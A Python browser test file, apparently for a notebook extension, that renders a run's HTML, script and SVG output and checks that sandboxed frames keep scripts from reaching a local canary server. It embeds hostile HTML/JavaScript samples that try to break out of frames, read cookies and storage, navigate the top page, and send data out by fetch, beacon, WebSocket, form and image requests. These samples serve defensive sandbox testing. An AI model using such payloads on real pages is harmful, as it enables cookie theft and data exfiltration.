"""What a run in the kernel has shown: tables at once, scripts in a frame that reaches nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browsing import App, until

pytestmark = pytest.mark.timeout(300)

READY = "import playing as p; p.wait_until_watched()"

HOSTILE = r"""
<h1 id="said">still</h1>
<img src="URL/picture"><link rel="stylesheet" href="URL/style">
<a id="link" href="URL/link" ping="URL/ping">leave</a>
<button id="leave" onclick="location.href = 'URL/leave?' + document.URL">leave</button>
<form action="URL/form" method="post"><button id="send">send</button></form>
<script>
const done = [];
const attempt = (name, act) => { try { act(); } catch (error) { done.push(name); } };
attempt('parent', () => { parent.parent.pwned = 'parent'; });
attempt('top', () => { top.pwned = 'top'; });
attempt('document', () => { top.document.title = 'pwned'; });
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('navigate the page', () => { top.location = 'URL/top'; });
attempt('popup', () => { if (!window.open('URL/popup')) { throw new Error(); } });
try { alert('pwned') } catch (error) { /* no dialogs */ }
fetch('URL/fetch').catch(() => { done.push('fetch'); });
new Image().src = 'URL/image';
try { navigator.sendBeacon('URL/beacon', 'x'); } catch (error) { /* refused */ }
try { new WebSocket('SOCKET/socket').onerror = () => { done.push('socket'); }; } catch (e) {
  done.push('socket'); }
const style = document.createElement('link');
style.rel = 'stylesheet'; style.href = 'URL/linked'; document.head.append(style);
const script = document.createElement('script');
script.src = 'URL/script'; document.head.append(script);
const inner = document.createElement('iframe');
inner.src = 'URL/frame'; document.body.append(inner);
const again = document.createElement('iframe');
again.srcdoc = '<img src="URL/nested"><script>new Image().src = "URL/scripted"<\/script>';
document.body.append(again);
document.querySelector('form').submit();
document.getElementById('said').textContent = 'live';
</script>
"""
LEAVING = '<meta http-equiv="refresh" content="0;url=URL/refresh"><script>1</script>'

CELL = """
from gemini_magic.turn.parts import *
script = "element.textContent = 'drawn'"
vector = '<svg><text y="20">vector</text></svg>'
shown = [
    {'mime_type': 'text/html', 'data': TABLE},
    {'mime_type': 'text/html', 'data': HOSTILE, 'frame': 'live', 'only': True},
    {'mime_type': 'text/html', 'data': LEAVING, 'frame': 'live', 'only': True},
    {'mime_type': 'application/javascript', 'data': script, 'frame': 'live'},
    {'mime_type': 'image/svg+xml', 'data': vector, 'frame': 'still'},
]
p.show(p.turn((Call('run_python', {'code': 'show()'}, 'c1'),
    Response('run_python', {'outcome': 'OUTCOME_OK', 'stdout': 'x'}, 'c1', shown),
    Text('Done.'))))
"""
TABLE = (
    "<style>body { display: none }</style><table class='jp-Dialog' onclick='window.pwned = 1'>"
    "<tr><th>region<td style='position:fixed'>North<script>window.pwned = 2</script></table>"
    "<img src='https://example.com/p'>"
)


class Site:
    """A web site that notes what it is asked for."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                self.raw_requestline = self.rfile.readline(65537)
                if self.raw_requestline and self.parse_request():
                    asked.append(self.path)
                    self.send_response(204)
                    self.send_header("Access-Control-Allow-Origin", "*")
                    self.end_headers()
                self.close_connection = True

            def log_message(self, *said: object) -> None:
                pass

        self.asked = asked
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    thread = threading.Thread(target=made.server.serve_forever, daemon=True)
    thread.start()
    yield made
    made.server.shutdown()
    made.server.server_close()
    thread.join()


def test_scripts_of_a_run_wait_for_the_users_word_and_reach_nothing(lab: App, site: Site) -> None:
    html = HOSTILE.replace("URL", site.url).replace("SOCKET", site.url.replace("http", "ws"))
    leaving = LEAVING.replace("URL", site.url)
    cell = CELL.replace("HOSTILE", repr(html)).replace("LEAVING", repr(leaving))
    cell = cell.replace("TABLE", repr(TABLE))
    lab.open([READY, cell])
    lab.run(0)
    lab.run(1)
    turn = lab.turn(1)
    turn.wait_for()

    assert turn.locator("td", has_text="North").is_visible(), "a table at once"
    inside = turn.locator(".gm-Run script, .gm-Run [style*=fixed], .gm-Run [onclick]")
    assert inside.count() == 0 and turn.locator(".gm-Run img, [class*=jp-Dialog]").count() == 0
    frames = turn.locator("iframe.gm-Frame")
    assert frames.evaluate_all("all => all.map(one => one.getAttribute('sandbox'))") == [""] * 3
    still = frames.first.content_frame.locator("iframe").content_frame
    assert still.locator("#said").inner_text() == "still"
    vector = frames.last.content_frame.locator("iframe").content_frame
    assert vector.locator("svg text").text_content() == "vector"
    assert turn.get_by_text("JavaScript, 29 characters").is_visible()

    buttons = turn.locator("button[data-action=live]")
    assert buttons.count() == 3, "none for the vector"
    buttons.first.evaluate("button => button.click()")
    assert buttons.first.inner_text() == "Show live output", "no script presses it"
    still.locator("#link").click()
    lab.page.wait_for_timeout(500)
    assert site.asked == [] and lab.js("window.pwned") is None

    buttons.last.press("Enter")
    until(lambda: frames.nth(2).get_attribute("sandbox") == "allow-scripts", "the frame")
    drawn = frames.nth(2).content_frame.locator("iframe").content_frame
    until(lambda: drawn.locator("#output").inner_text() == "drawn", "the script")
    address, pages = lab.page.url, len(lab.page.context.pages)
    buttons.first.click()
    assert buttons.first.inner_text() == "Stop live output"
    live = frames.first.content_frame.locator("iframe")
    assert live.get_attribute("sandbox") == "allow-scripts"
    assert live.content_frame.locator("#said").inner_text() == "live", "scripts run"
    buttons.nth(1).click()
    live.content_frame.locator("#leave").click()
    lab.page.wait_for_timeout(2500)  # the canaries need time to sing
    assert site.asked == [], "nothing is fetched, nothing leaves by a link, a form or its own page"
    assert lab.page.url == address and len(lab.page.context.pages) == pages
    assert lab.js("window.pwned") is None and lab.js("document.title") != "pwned"
    assert lab.js("getComputedStyle(document.body).display") != "none"
    buttons.first.click()
    assert frames.first.get_attribute("sandbox") == ""

    lab.save()
    lab.reload()
    lab.turn(1).wait_for()
    frames = lab.turn(1).locator("iframe.gm-Frame")
    until(lambda: frames.count() == 3, "the frames of the saved notebook")
    assert frames.evaluate_all("all => all.map(one => one.getAttribute('sandbox'))") == [""] * 3
    assert site.asked == [] and lab.js("window.pwned") is None
